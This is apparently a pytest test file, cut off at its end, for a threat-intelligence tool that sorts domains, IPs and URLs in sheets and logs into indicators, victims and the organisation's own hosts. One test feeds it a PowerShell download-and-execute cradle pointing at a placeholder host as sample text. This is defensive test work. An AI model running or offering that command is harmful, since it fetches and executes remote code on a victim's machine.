"""Domains, addresses and URLs in sheets and lists: the nearest owner decides, and what is not asked is kept apart."""

from __future__ import annotations

import json

import pytest

from enrich.indicators import IndicatorType, types
from enrich.indicators.shared.own_side import read_together
from enrich.model.row import Row
from enrich.model.sighting import Found
from enrich.scan import other_kinds, scan_sheet, targets
from enrich.scan.chain import Chain, Owner
from tests.support.made_sheets import md5, scanned, sha256, values

ALL = ("hash", "domain", "ip", "url")


def taken(*rows: tuple[str, ...], **how: object) -> list[str]:
    """The values of other kinds that are indicators, in the order of the cells."""
    placement = scanned(*rows, kinds=ALL, **how)
    return [s.value for s in placement if s.found is Found.INDICATOR and s.kind != "hash"]


def test_a_table_of_types_and_values() -> None:
    rows = [
        ("type", "value", "reference"),
        ("domain", "a.com", "https://blog.vendor.com/research/a-long-slug"),
        ("ip", "8.8.8.8", ""),
        ("url", "http://b.com/x", ""),
    ]
    assert taken(*rows) == ["a.com", "8.8.8.8", "http://b.com/x"]


def test_a_record_in_a_cell_says_whose_its_values_are() -> None:
    said = [
        ({"Name": "bob", "UPNSuffix": "client.com", "Type": "account"}, ""),
        ({"DomainName": "a.com", "Type": "dns"}, "a.com"),
        ({"type": "link", "category": "External analysis", "value": "https://blog.vendor.com/long"}, ""),
        ({"type": "target-org", "value": "victim.com"}, ""),
        ({"type": "ip-dst", "value": "8.8.4.4"}, "8.8.4.4"),
        ({"agent": {"address": "9.9.9.9"}, "dst": {"address": "8.8.8.8"}}, "8.8.8.8"),
        ({"host": {"ip": ["9.9.9.9"]}, "dst": {"ip": ["8.8.8.8"]}}, "8.8.8.8"),
        ({"type": "victim", "ip": "9.9.9.9"}, ""),
    ]
    cells = [(f"2026-11-{n}", json.dumps([record, {"Type": "host"}])) for n, (record, _) in enumerate(said, 1)]
    assert taken(("Time", "Entities"), *cells) == [value for _, value in said if value]


LANGUAGES = (
    "Typ/Wert tipo/valor Type/Valeur Soort/Waarde Typ/Värde Tyyppi/Arvo Rodzaj/Wartość Typ/Hodnota Típus/Érték "
    "Tip/Valoare Tür/Değer Loại/Τιμή Тип/Значение Тип/Значення 種別/値 類型/值 유형/값 النوع/القيمة סוג/ערך"
)


@pytest.mark.parametrize("words", LANGUAGES.split())
def test_a_table_of_types_and_values_is_read_in_many_languages(words: str) -> None:
    rows = [("SHA256", sha256(1), ""), ("domain", "a.com", ""), ("ip", "8.8.8.8", ""), ("mutex", md5(1), "")]
    placement = scanned((*words.split("/"), "x"), *rows, kinds=ALL)
    assert [s.value for s in placement if s.found is Found.INDICATOR] == [sha256(1), "a.com", "8.8.8.8"]


@pytest.mark.parametrize(
    "heading",
    [
        "Indicador",
        "Indicateurs",
        "Indicatore",
        "Indikator",
        "Wskaźnik",
        "Göstergeler",
        "Индикатор",
        "Індикатор",
        "指標",
        "지표",
        "Artefakt",
    ],
)
def test_a_column_of_indicators_is_known_in_many_languages(heading: str) -> None:
    placement = scanned(("Datum", heading, "x"), ("2026-11-01", sha256(1), ""), ("2026-11-02", "a.com", ""), kinds=ALL)
    assert [s.value for s in placement if s.found is Found.INDICATOR] == [sha256(1), "a.com"]


HEADINGS = (
    "Datei-Hash|Schadhafte Domäne|Kennwort, Hash del archivo|Dominio malicioso|Hash de contraseña,"
    "Empreinte du fichier|Domaine malveillant|Hash du mot de passe, Hash do arquivo|Domínio malicioso|Hash da senha,"
    "ファイルハッシュ|不審ドメイン|パスワードハッシュ, 文件哈希|恶意域名|密码哈希, 파일 해시|악성 도메인|비밀번호 해시,"
    "Хеш файла|Вредоносный домен|Хеш пароля, Хеш файлу|Шкідливий домен|Хеш пароля, Skrót pliku|Złośliwa domena|Skrót hasła,"
    "Hash souboru|Škodlivá doména|Hash hesla, Bestandshash|Kwaadaardig domein|Wachtwoordhash, Filhash|Skadlig domän|Lösenordshash,"
    "Dosya özeti|Zararlı alan adı|Parola özeti, تجزئة الملف|نطاق ضار|تجزئة كلمة المرور, Mã băm tệp|Tên miền|Mã băm mật khẩu,"
    "Hash fișier|Domeniu malițios|Hash parolă, Tiedoston tiiviste|Haitallinen verkkotunnus|Salasanan tiiviste,"
    "Κατακερματισμός αρχείου|Κακόβουλος τομέας|Κατακερματισμός κωδικού, גיבוב קובץ|דומיין זדוני|גיבוב סיסמה"
)


@pytest.mark.parametrize("headings", HEADINGS.split(","))
def test_files_domains_and_passwords_are_told_apart_in_many_languages(headings: str) -> None:
    rows = [(sha256(n), f"evil{n}.com", md5(f"password {n}")) for n in range(3)]
    placement = scanned(tuple(headings.strip().split("|")), *rows, kinds=ALL)
    asked = [s.value for s in placement if s.found is Found.INDICATOR]
    assert asked == [value for row in rows for value in row[:2]]


@pytest.mark.parametrize(
    "heading",
    ["Доменное имя хоста", "资产域名", "Kundens server", "Server zákazníka", "Customer servers", "Server pelanggan"],
)
def test_names_of_customers_and_of_hosts_stay_home_in_other_languages(heading: str) -> None:
    assert taken(("SHA256", heading), (sha256(1), "srv1.client.com"), (sha256(2), "srv2.client.com")) == []


@pytest.mark.parametrize(
    "heading", ["Hashwaarde", "Hashvärde", "Skrót SHA256", "Контрольна сума", "Геш", "Kontrolní součet", "Tiiviste"]
)
def test_a_column_of_hashes_is_known_in_many_languages(heading: str) -> None:
    assert values(scanned(("Datum", heading, "x"), ("2026-11-01", sha256(1), ""))) == [sha256(1)]


BESIDE = [
    ({"ComputerName": "WS1", "ExternalIP": "8.8.8.8", "RemoteAddressIP4": "8.8.4.4"}, "8.8.4.4"),
    ({"aid": "0f1e", "aip": "8.8.8.8", "RemoteIP": "8.8.4.4"}, "8.8.4.4"),
    ({"HostName": "ws1", "DnsDomain": "corp.client.com", "Type": "host"}, ""),
    ({"UserId": "bob", "SiteUrl": "https://client.sharepoint.com/sites/a/", "ClientIP": "8.8.4.4"}, "8.8.4.4"),
    ({"Date": "2026-11-01", "ExternalIP": "8.8.4.4"}, "8.8.4.4"),
    ({"Family": "Emotet", "Site URL": "http://a.com/x"}, "http://a.com/x"),
]


@pytest.mark.parametrize(("record", "value"), BESIDE)
def test_where_a_machine_or_an_account_of_the_house_stands_itself_stays_home(
    record: dict[str, str], value: str
) -> None:
    assert taken(tuple(record), tuple(record.values())) == [value] * bool(value)
    cell = json.dumps(record)
    assert taken(("Time", "Event"), ("2026-11-01", cell), ("2026-11-02", cell)) == [value] * bool(value) * 2


def test_a_web_server_s_own_address_is_told_from_its_clients_by_the_names_of_its_log_s_fields() -> None:
    fields = ("#Fields:", "date", "s-ip", "cs-method", "c-ip")
    lines = [("2026-11-01", f"9.9.9.{n}", "GET", f"8.8.8.{n}") for n in (1, 2)]
    again = ("#Fields:", "date", "cs-method", "s-ip", "c-ip")
    assert taken(("#Software:", "Microsoft", "Internet"), fields, *lines) == ["8.8.8.1", "8.8.8.2"]
    behind = taken(fields, *lines, ("#Date:", "2026-11-02"), again, ("2026-11-02", "GET", "9.9.9.3", "8.8.8.3"))
    assert behind == ["8.8.8.1", "8.8.8.2", "8.8.8.3"]
    exchange = [("#Fields: date-time", "client-ip", "event-id"), ("2026-11-01", "8.8.8.1", "RECEIVE")]
    assert taken(("#Software: Microsoft Exchange Server",), *exchange) == ["8.8.8.1"]


def test_a_heading_that_says_something_else_keeps_its_values_home() -> None:
    rows = [
        ("Domain", "Registrar", "Notes"),
        ("a.com", "PublicDomainRegistry.com", "seen on c.com"),
        ("b.com", "x.net", ""),
    ]
    assert taken(*rows) == ["a.com", "b.com"]


def test_the_houses_own_machines_stay_home_unless_they_are_defanged() -> None:
    assert taken(("Hostname", "Domain"), ("ws1.client.com", "a.com"), ("evil[.]host[.]com", "b.com")) == [
        "a.com",
        "evil.host.com",
        "b.com",
    ]
    assert taken(("type", "value"), ("hostname", "c2.evil.com")) == ["c2.evil.com"]


def test_the_name_of_its_own_type_outweighs_a_second_column_of_types() -> None:
    rows = [("category", "type", "value"), ("malware", "domain", "a.com"), ("malware", "mutex", "b.com")]
    assert taken(*rows) == ["a.com"]


def test_the_only_heading_is_a_title_that_further_titles_overrule() -> None:
    assert taken(("Victims",), ("a.com",), ("C2:",), ("b.com",)) == ["b.com"]


def test_the_sheet_makes_no_indicator_of_what_a_heading_leaves_unsaid() -> None:
    rows = [
        ("Malware URL", "\ub9c1\ud06c"),
        ("http://a.com/x", "https://blog.com/a/b"),
        ("http://b.com/x", "https://blog.com/c/d"),
    ]
    assert taken(*rows) == ["http://a.com/x", "http://b.com/x"]


def test_every_type_says_who_named_its_values() -> None:
    placement = scanned(("type", "value"), ("domain", "a.com"), ("md5", md5(1)), kinds=ALL)
    assert [s.reason for s in placement] == ["by 'domain' in column A", "by the heading 'value'"]
    placement = scanned(("## C2",), ("evil.com",), kinds=ALL)
    assert [s.reason for s in placement] == ["by the title 'C2' in row 1"]


def test_addresses_in_every_row_are_each_their_own() -> None:
    addresses = [
        "8.8.8.8",
        "9.9.9.9",
        "10.0.0.1",
        "93.184.216.0",
        "1.3.6.1",  # under a heading of versions an object identifier
        "8.8.8.8",
        "127.0.0.1",
        "224.0.0.1",
        "9.1.1.1",
    ]
    rows = [(md5(n), text) for n, text in enumerate(addresses)]
    assert taken(("hash", "ip"), *rows) == addresses
    placement = scanned(("hash", "ip"), *rows, kinds=ALL)
    assert [s.value for s in placement if "never sent" in s.reason] == ["10.0.0.1", "127.0.0.1", "224.0.0.1"]
    assert taken(("hash", "version"), *rows) == []


def test_a_title_of_victims_or_references_keeps_home_what_is_plain() -> None:
    rows = [
        ("# Actor X",),
        ("## Compromised websites",),
        ("victim.com",),
        ("## References",),
        ("https://x.com/a",),
        ("## C2",),
        ("evil.com",),
        ("## Victims",),
        ("evil[.]org",),
    ]
    assert taken(*rows) == ["evil.com", "evil.org"]


@pytest.mark.parametrize(
    "title",
    [
        *("Agent Tesla", "Lumma malware", "Campaign 1", "APT29 campaign", "Threat actor infrastructure", "Malware"),
        *("CVE-2024-1234 exploitation", "IOCs from our blog", "Signature: win.lumma", "Device code phishing"),
        *("Discord token grabber", "Telegram bots", "User agent stealer", "Sensor: honeypot hits", "Stage 2"),
        *("Post Exploitation Servers", "JavaScript Injection Points", "SSH-based Backdoor (Early Version)"),
    ],
)
def test_what_a_list_is_about_is_not_what_stands_in_it(title: str) -> None:
    assert taken((f"## {title}",), ("evil.com",), ("evil.org",)) == ["evil.com", "evil.org"]
    assert taken(("Domain", "IP"), ("evil.com", "8.8.8.8"), sheet=title) == ["evil.com", "8.8.8.8"]
    assert taken((title, ""), ("Domain", "IP"), ("evil.com", "8.8.8.8"), ("b.com", "9.9.9.9"))[:2] == [
        "evil.com",
        "8.8.8.8",
    ]


@pytest.mark.parametrize(
    "title",
    [
        "Victims",
        "Defacements",
        "Infected domains",
        "Compromised websites",
        "Affected customers",
        "Legitimate sites abused",
    ],
)
def test_victims_stay_home_whatever_their_column_is_called(title: str) -> None:
    rows = [("Domain", "IP"), ("client.com", "8.8.8.8"), ("client.org", "9.9.9.9")]
    assert taken((title, ""), *rows) == []
    assert taken(*rows, sheet=title) == []
    assert taken(*rows, file=f"{title}.csv") == []
    assert taken(("Domain",), ("client.com",), file=f"{title}.csv") == []
    assert taken(*rows, sheet=f"{title} (IOCs)", file=f"IOCs of {title}.csv") != []
    assert taken(("indicator", f"{title}.domain"), ("a.com", "client.com")) == ["a.com"]


@pytest.mark.parametrize(
    "note", ["victim", "Victim.", "[victim]", "compromised website", "Our internal host", "legitimate"]
)
def test_a_note_that_says_nothing_but_whose_a_value_is_keeps_it_home(note: str) -> None:
    rows = [("IOC", "Comment"), ("evil.com", "C2"), ("client.com", note), ("evil.org", f"beacons to a {note} first")]
    assert taken(*rows) == ["evil.com", "evil.org"]
    assert taken(*[(f"{name}[.]com", note) for name in "ab"]) == ["a.com", "b.com"]
    assert taken(("evil.com", "C2"), ("client.com", note), ("evil.org", "C2")) == ["evil.com", "evil.org"]


@pytest.mark.parametrize("category", ["Malicious Sources", "Brand impersonation", "Web Hosting", "Spam URLs"])
def test_the_category_of_a_filter_of_the_web_says_what_a_site_does(category: str) -> None:
    assert taken(("Domain", "Category"), ("evil.com", category), ("evil.org", "Phishing")) == ["evil.com", "evil.org"]


@pytest.mark.parametrize(
    "heading", ["Adresse IP du poste", "IP-Adresse des Rechners", "IP del equipo", "IP рабочей станции"]
)
def test_the_houses_own_machines_are_heard_in_other_languages(heading: str) -> None:
    assert taken(("C2", heading), ("45.9.148.9", "81.56.23.2")) == ["45.9.148.9"]


@pytest.mark.parametrize(
    "note", ["Opfer", "betroffenes Unternehmen", "victime", "víctima", "пострадавшая организация", "жертва"]
)
def test_victims_are_heard_in_other_languages(note: str) -> None:
    rows = [("IOC", "Comment"), ("evil.com", "C2"), ("client.com", note)]
    assert taken(*rows) == ["evil.com"]


@pytest.mark.parametrize("kind", ["Agent Tesla C2", "AgentTesla", "Threat actor infrastructure"])
def test_a_type_is_what_it_ends_in(kind: str) -> None:
    assert taken(("Type", "Value"), (kind, "evil.com"), ("agent", "client.com"), ("victim", "client.org")) == [
        "evil.com"
    ]


def test_each_table_of_one_column_has_its_own_heading() -> None:
    rows = [("### Files",), ("", " Seed ", " Country ", ""), ("", " 1136 ", " Spain ", ""), ("",)]
    rows += [("", " SHA256 ", ""), ("", " :--- ", ""), ("", f" {sha256(1)} ", ""), ("",)]
    rows += [
        ("", " Registered domains (March) ", ""),
        ("", " :--- ", ""),
        ("", " evil.com ", ""),
        ("", " evil.org ", ""),
    ]
    placement = scan_sheet("", [Row(n, list(row)) for n, row in enumerate(rows, 1) if any(row)], kinds=ALL)
    assert [s.value for s in placement if s.found is Found.INDICATOR] == [sha256(1), "evil.com", "evil.org"]


def test_an_indicator_of_stix_is_named_by_its_value() -> None:
    rows = [("type", "name", "observable_types"), ("indicator", "evil.com", "domain-name"), ("malware", "asp.net", "")]
    assert taken(*rows) == ["evil.com"]
    assert taken(("[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = '8.8.8.8']",)) == [
        "8.8.8.8"
    ]


def test_the_list_that_a_record_stands_in_is_nearer_than_who_holds_it() -> None:
    rows = [Row(1, ("source_name", "url")), Row(2, ("mitre", "https://a.com/x"), owners=("Network service scanning",))]
    placement = scan_sheet("objects.external_references", rows, kinds=ALL)
    assert [s.found for s in placement] == [Found.LEFT_OUT]


def test_a_note_that_a_value_is_a_victim_s_outweighs_its_type() -> None:
    rows = [("type", "value", "comment"), ("domain", "evil.com", ""), ("domain", "client.com", "victim")]
    assert taken(*rows) == ["evil.com"]


@pytest.mark.parametrize("note", ["Twitter", "Report", "Sandbox", "targeted phishing", "Sensor"])
def test_a_note_that_says_where_a_value_was_seen_leaves_it_an_indicator(note: str) -> None:
    assert taken(("IOC", "Comment"), ("evil.com", note), ("evil.org", "C2")) == ["evil.com", "evil.org"]


def test_what_a_row_comes_to_hangs_on_no_other_row() -> None:
    notes = ["Victim.", "", "seen", "victim", "a loader", "x"]
    rows = [(f"{'aebdcf'[n]}.com", note) for n, note in enumerate(notes)]
    for order in (rows, rows[::-1], sorted(rows)):
        assert sorted(taken(("Domain", "Note"), *order)) == ["b.com", "c.com", "e.com", "f.com"]


@pytest.mark.parametrize("title", ["Internal hosts Berlin:", "Assets Germany:", "Endpoints EMEA:"])
def test_one_s_own_machines_stay_home_wherever_in_a_title_the_word_stands(title: str) -> None:
    assert taken((title,), ("client.com",), ("C2:",), ("evil.com",)) == ["evil.com"]


@pytest.mark.parametrize("kind", ["victim IP (C2 traffic)", "compromised host contacting C2"])
def test_a_victim_s_type_keeps_it_home_whatever_it_talks_to(kind: str) -> None:
    assert taken(("Type", "Value"), (kind, "8.8.8.8"), ("C2", "9.9.9.9")) == ["9.9.9.9"]


def test_the_title_of_a_table_ends_with_the_next() -> None:
    rows = [("Victims", ""), ("Domain", "IP"), ("client.com", "8.8.8.8"), ("", "")]
    assert taken(*rows, ("Indicators", ""), ("Domain", "IP"), ("evil.com", "9.9.9.9")) == ["evil.com", "9.9.9.9"]


@pytest.mark.parametrize("file", ["compromised-ips.txt", "compromised_ips_2026.txt", "et_compromised_ips.csv"])
def test_addresses_that_a_file_calls_compromised_are_blocked_for_what_they_do(file: str) -> None:
    assert taken(("8.8.8.8",), ("evil.net",), ("9.9.9.9",), file=file) == ["8.8.8.8", "evil.net", "9.9.9.9"]
    assert taken(("8.8.8.8",), ("client.com",), file="compromised_hosts.txt") == []


def test_articles_in_a_column_of_references_stay_home_though_somebody_defanged_them() -> None:
    article = "hxxps://www[.]vendor[.]com/security/blog/2026/01/15/malware-of-the-year/"
    rows = [("domain", "evil[.]com", article), ("domain", "bad[.]com", "hxxp://evil[.]com/a.exe")]
    assert taken(("Type", "Indicator", "Source"), *rows) == ["evil.com", "bad.com", "http://evil.com/a.exe"]
    assert taken((article,)) != []


def test_an_address_that_looks_like_an_article_s_is_one_of_a_list_of_nothing_but_urls() -> None:
    urls = [(f"http://evil{n}.com/a.exe",) for n in range(30)]
    assert taken(*urls, ("https://github.com/evilmax",)) == [*(url for (url,) in urls), "https://github.com/evilmax"]
    assert taken(("What we found",), urls[0], ("https://github.com/evilmax",)) == [*urls[0]]


def test_words_of_a_heading_are_parted_behind_a_number() -> None:
    assert taken(("IoC", "Type", "C2Domain"), (sha256(1), "SHA256", "evil.com"), ("bad.com", "Domain", "")) == [
        "evil.com",
        "bad.com",
    ]


def test_the_machines_of_an_inventory_stay_home() -> None:
    rows = [("Hostname", "FQDN", "IP Address", "Owner"), ("srv1", "srv1.client.com", "8.8.8.8", "it")]
    assert taken(*rows, file="assets.csv") == taken(*rows, sheet="Host inventory") == []


def test_the_reference_of_a_rule_is_none() -> None:
    rule = 'alert dns any any -> any any (msg:"x"; content:"a"; reference:url,blog.vendor.com/research/x; sid:1;)'
    assert taken((rule,), ("8.8.8.8",)) == ["8.8.8.8"]


def test_in_a_list_that_defangs_what_stands_plain_in_a_sentence_is_none() -> None:
    assert taken(("evil[.]com is the server",), ("it looked like http://good.com/ to the user",)) == ["evil.com"]
    assert taken(("it looked like http://bad.com/ to the user",)) == ["http://bad.com/"]


def test_values_that_stand_alone_make_no_url_in_a_script_of_their_list_less_meant() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://bad.com/a.ps1'); connect to 45.77.10.20 then"
    assert set(taken(("evil.com",), (script,))) == {"evil.com", "http://bad.com/a.ps1", "45.77.10.20"}
    assert taken(("evil[.]com",), (script,)) == ["evil.com"]


def test_a_list_without_headings_loses_nothing_of_its_first_row() -> None:
    assert taken(("evil.com",), ("evil.org",), ("evil.net",)) == ["evil.com", "evil.org", "evil.net"]
    assert taken(("evil.com", "8.8.8.8"), ("evil.org", "9.9.9.9")) == ["evil.com", "8.8.8.8", "evil.org", "9.9.9.9"]
    assert taken(("Domain of asp.net",), ("evil.org",)) == ["evil.org"]


def test_the_users_column_overrules() -> None:
    rows = [("Name", "Where"), ("details.zip", "8.8.8.8")]
    assert taken(*rows) == []
    assert taken(*rows, columns=("Name",)) == ["details.zip"]


def test_kinds_that_are_not_asked_are_kept_apart_and_ask_nothing() -> None:
    placement = scanned(("hash", "ip"), (md5(1), "8.8.8.8"), (md5(2), "details.zip"))
    assert [(s.kind, s.found) for s in placement] == [
        ("hash", Found.INDICATOR),
        ("ip", Found.NOT_ASKED),
        ("hash", Found.INDICATOR),
    ]
    assert [target.ask.kind for target in targets([placement])] == ["hash", "hash"]
    assert placement.count == 2


def test_values_of_a_row_are_targets_of_their_own() -> None:
    placement = scanned(
        ("hash", "domain", "ip"), (sha256(1), "a.com", "8.8.8.8"), (sha256(1), "a.com", "9.9.9.9"), kinds=ALL
    )
    asked = {(t.ask.kind, t.ask.value): (t.weight, t.others) for t in targets([placement])}
    assert asked == {
        ("hash", sha256(1)): (2, ()), ("domain", "a.com"): (2, ()), ("ip", "8.8.8.8"): (1, ()), ("ip", "9.9.9.9"): (1, ()),
    }  # fmt: skip


@pytest.mark.parametrize("value", ["192.168.0.1", "dc1[.]corp[.]local", "http://a.com/?email=x@client.com"])
def test_what_must_not_be_sent_is_an_indicator_with_its_reason(value: str) -> None:
    (seen,) = scanned(("ip or domain or url",), (value,), kinds=ALL)
    assert seen.found is Found.INDICATOR
    assert "never sent" in seen.reason or "--send-private-urls" in seen.reason
    assert types()[seen.kind].withheld(seen.value) == seen.reason


def test_the_address_of_a_person_s_picture_holds_the_digest_of_a_mail_address() -> None:
    address = f"https://pictures.example.net/avatar/{md5('me@client.com')}?s=80"
    seen = [s for s in scanned(("URL",), (address,), kinds=ALL) if s.kind == "url"]
    assert [s.reason for s in seen] == ["the digest of a mail address in the URL; --send-private-urls sends it"]


def test_mail_addresses_and_networks_are_listed_and_left_out() -> None:
    placement = scanned(("someone[@]evil[.]com",), ("203.0.113.0/24",), kinds=ALL)
    assert [(s.kind, s.found) for s in placement] == [("email", Found.LEFT_OUT), ("network", Found.LEFT_OUT)]


@pytest.mark.parametrize("heading", ["ActionType", "Event Type", "event.category", "TaskCategory", "alert_category"])
@pytest.mark.parametrize("event", ["FileCreated", "ProcessCreated", "RegistryValueSet", "EmailDelivered", "Malware"])
def test_the_type_of_an_event_says_nothing_of_the_values_beside_it(heading: str, event: str) -> None:
    columns = (heading, "RemoteUrl", "RemoteIP", "InitiatingProcessSHA256")
    row = (event, "http://a.com/69.exe", "60.23.232.27", sha256(1))
    placement = scanned(columns, row, kinds=ALL)
    assert {s.value for s in placement if s.found is Found.INDICATOR} == {*row[1:]}


@pytest.mark.parametrize("category", ["Malware", "Hosting", "Business Email Compromise", "File Storage", "File name"])
def test_a_heading_that_names_the_kind_stands_above_what_else_the_row_is_about(category: str) -> None:
    assert taken(("category", "url"), (category, "http://a.com/x")) == ["http://a.com/x"]


@pytest.mark.parametrize("category", ["Reference", "Victim", "legitimate"])
def test_whose_a_value_is_stands_above_a_heading_that_names_the_kind(category: str) -> None:
    assert taken(("category", "url"), (category, "http://a.com/x")) == []


def test_a_sort_of_malware_is_no_name_of_one() -> None:
    rows = [("Indicator", "Category"), ("a.com", "Malware"), ("b.com", "malware_download"), ("c.com", "Malware family")]
    assert taken(*rows) == ["a.com", "b.com"]


@pytest.mark.parametrize(
    ("heading", "value"),
    [
        ("dns.question.name", "a.com"), ("QueryName", "a.com"), ("http.hostname", "a.com"), ("tls.sni", "a.com"),
        ("dsthost", "a.com"), ("query", "a.com"), ("answers", "60.23.232.27"), ("dstip", "60.23.232.27"),
        ("id.resp_h", "60.23.232.27"), ("dns.resolved_ip", "60.23.232.27"),
    ],
)  # fmt: skip
def test_headings_of_network_telemetry_name_their_kind_and_are_no_values(heading: str, value: str) -> None:
    assert taken(("host.name", heading), ("ws1", value)) == [value]


def test_the_machines_of_the_house_stay_home_whatever_their_heading_is_a_part_of() -> None:
    assert taken(("host.hostname", "agent.hostname", "url"), ("ws1.a.com", "ws2.a.com", "http://b.com/x")) == [
        "http://b.com/x"
    ]


def test_the_type_of_what_was_sent_says_nothing_of_who_sent_it() -> None:
    columns = ("tx_hosts", "mime_type", "md5")
    assert taken(columns, ("8.8.8.8", "application/x-x509-user-cert", md5(1))) == ["8.8.8.8"]


@pytest.mark.parametrize("heading", ["urlhaus_link", "CrlDistributionPointUrls", "OCSP URI", "MISP link"])
def test_where_a_service_tells_of_a_value_or_a_certificate_is_kept_is_a_reference(heading: str) -> None:
    assert taken(("Domain", heading), ("a.com", "http://service.example.net/a/1")) == ["a.com"]


def test_a_type_called_link_is_a_reference() -> None:
    assert taken(("Type", "Value"), ("link", "https://blog.com/a"), ("url", "http://b.com/x")) == ["http://b.com/x"]


def test_german_lists_of_types_and_values() -> None:
    rows = [("Art", "Wert"), ("Adresse", "45.9.148.3"), ("Domain", "a.com")]
    assert taken(*rows) == ["45.9.148.3", "a.com"]


@pytest.mark.parametrize("sheet", ["CERT-Bund", "Malware", "Mail", "Process list", "Report", "IOCs", "Hosting"])
def test_what_a_sheet_is_called_after_leaves_no_list_of_indicators_out(sheet: str) -> None:
    rows = [Row(1, ("IoC", "Art")), Row(2, ("a.com", "domain")), Row(3, ("45.9.148.9", "ip"))]
    placement = scan_sheet(sheet, rows, kinds=ALL)
    assert [s.value for s in placement if s.found is Found.INDICATOR] == ["a.com", "45.9.148.9"]


@pytest.mark.parametrize("sheet", ["References", "Victims", "objects.external_references"])
def test_a_sheet_that_says_whose_its_values_are_is_heard_below_a_heading_of_urls(sheet: str) -> None:
    rows = [Row(1, ("source_name", "url")), Row(2, ("blog", "https://a.com/x")), Row(3, ("blog", "https://b.com/x"))]
    left = [s for s in scan_sheet(sheet, rows, kinds=ALL) if s.found is Found.LEFT_OUT]
    assert len(left) == 2
    rows = [Row(1, ("Indicator", "Note")), Row(2, ("https://a.com/x", "x")), Row(3, ("https://b.com/x", "x"))]
    left = [s for s in scan_sheet(sheet, rows, kinds=ALL) if s.found is Found.LEFT_OUT]
    assert len(left) == 2


OWN = (
    "PublicIP", "LocalIP", "DeviceIP", "dvc_ip", "host_ip", "Agent IP", "host.ip", "observer.ip", "device.external_ip",
    "ComputerName", "Workstation", "DvcHostname", "observer.hostname", "agent.hostname", "user.domain", "AccountDomain",
    "TargetDomainName",
)  # fmt: skip


@pytest.mark.parametrize("heading", OWN)
def test_the_addresses_and_names_of_the_house_s_own_machines_are_not_asked_for(heading: str) -> None:
    value = "81.2.69.142" if "ip" in heading.lower() else "ws1.contoso.com"
    rows = [Row(1, ["Time", heading, "Event"]), Row(2, ["2026-01-01", value, "logon"])]
    placement = scan_sheet("s", rows, kinds=("domain", "ip", "url"))
    assert [(s.found, s.reason.partition(",")[0]) for s in placement] == [(Found.LEFT_OUT, "a machine of one's own")]


@pytest.mark.parametrize(
    "heading", ["destination.ip", "network.remote_ip", "dns.question.name", "report.domain", "External IP"]
)
def test_what_they_talk_to_is(heading: str) -> None:
    value = "45.33.32.156" if "ip" in heading.lower() else "evil.net"
    rows = [Row(1, ["Time", heading, "Event"]), Row(2, ["2026-01-01", value, "logon"])]
    placement = scan_sheet("s", rows, kinds=("domain", "ip", "url"))
    assert [s.found for s in placement] == [Found.INDICATOR]


def test_a_table_whose_headings_repeat_is_still_remembered_behind_many_of_them(monkeypatch: pytest.MonkeyPatch) -> None:
    headings, line = ("host", "domain", "user"), ("ws1", "see evil.example.org today", "bob")
    asked, heading = list[int](), Chain.heading

    def counted(self: Chain, kind: IndicatorType, column: int) -> Owner:
        asked.append(column)
        return heading(self, kind, column)

    monkeypatch.setattr(other_kinds, "REMEMBERED", 3)
    monkeypatch.setattr(Chain, "heading", counted)

    def questions(rows: int) -> int:
        asked.clear()
        texts = [*[headings, line] * 10, *[line] * rows]
        assert len(scanned(*map(list, texts), kinds=("domain",))) == 10 + rows
        return len(asked)

    assert questions(300) == questions(100)


def test_a_type_that_is_called_after_another_column_is_of_that_column() -> None:
    headings = ("Policy Identity", "ExternalIp", "InternalIp", "Domain", "Policy Identity Type")
    assert taken(headings, ("WS01", "81.12.33.4", "10.1.1.1", "evil.com", "AD Computers")) == ["evil.com"]
    assert taken(("Indicator", "Indicator type"), ("evil.com", "domain"), ("client.com", "victim")) == ["evil.com"]


def test_the_address_that_the_house_is_seen_by_stays_home_beside_its_own_side() -> None:
    assert taken(("ComputerName", "ExternalIP", "C2"), ("WS01", "81.12.33.4", "evil.com")) == ["evil.com"]
    assert taken(("External IP", "C2"), ("45.9.148.81", "evil.com")) == ["45.9.148.81", "evil.com"]


def test_a_host_named_plain_stays_home_where_other_values_are_defanged() -> None:
    assert taken(("Host: ws1.client.com (Berlin)",), ("opened hxxps://evil[.]com/a",)) == ["https://evil.com/a"]
    assert taken(("GET /a HTTP/1.1",), ("Host: evil.com",)) == ["evil.com"]


def test_what_stands_beside_the_house_s_own_machines_and_accounts_stays_home() -> None:
    assert taken(("Hostname", "IP", "OS", "Owner"), ("WS01", "81.12.33.4", "Win10", "bob")) == []
    assert taken(("Hostname", "IP", "Threat"), ("WS01", "45.9.148.81", "Emotet")) == ["45.9.148.81"]
    headings = ("IOC", "Source Host", "Source IP", "Destination Host", "Destination IP")
    assert taken(headings, ("evil.com", "WS01", "81.12.33.4", "a.evil.org", "45.9.148.81")) == [
        "evil.com",
        "a.evil.org",
        "45.9.148.81",
    ]
    assert taken(("Source IP", "IOC"), ("45.9.148.81", "evil.com")) == ["45.9.148.81", "evil.com"]
    assert taken(("User", "Domain", "Last logon"), ("bob", "client.com", "2024")) == []
    assert taken(("User", "Domain", "Bytes"), ("bob", "evil.com", "12")) == ["evil.com"]


def test_whose_a_value_is_outweighs_the_name_of_its_type_in_any_column_of_types() -> None:
    rows = [
        ("category", "type", "value"),
        ("Targeting data", "ip-src", "81.12.33.7"),
        ("Network", "domain", "evil.com"),
    ]
    assert taken(*rows) == ["evil.com"]
    assert taken(
        ("dataType", "data", "message"), ("fqdn", "ws1.client.com", "victim host"), ("fqdn", "evil.com", "C2")
    ) == ["evil.com"]


def test_what_a_proxy_says_that_it_went_to_is_no_version() -> None:
    assert taken(("200 GET http://evil.com/a bob HIER_DIRECT/45.9.148.97",), ("Chrome/135.0.0.1 seen",)) == [
        "45.9.148.97",
        "http://evil.com/a",
    ]


@pytest.mark.parametrize(
    ("headings", "row"),
    [
        (("IP", "Hostname", "OS", "Port", "Product"), ("45.9.148.81", "", "Linux", "443", "Cobalt Strike")),
        (("IP", "Host", "OS", "Malware"), ("45.9.148.81", "", "Linux", "X")),
        (("Time", "Source IP", "Source Hostname", "Attack"), ("1", "45.9.148.81", "", "SSH bruteforce")),
        (("host.hostname", "host.os", "destination.ip"), ("ws1", "Win10", "45.9.148.81")),
        (("Domain", "SHA256", "Password", "IP"), ("", sha256("a"), "infected", "45.9.148.81")),
    ],
)
def test_what_attacks_is_no_machine_of_the_house(headings: tuple[str, ...], row: tuple[str, ...]) -> None:
    assert taken(headings, row) == ["45.9.148.81"]


@pytest.mark.parametrize(
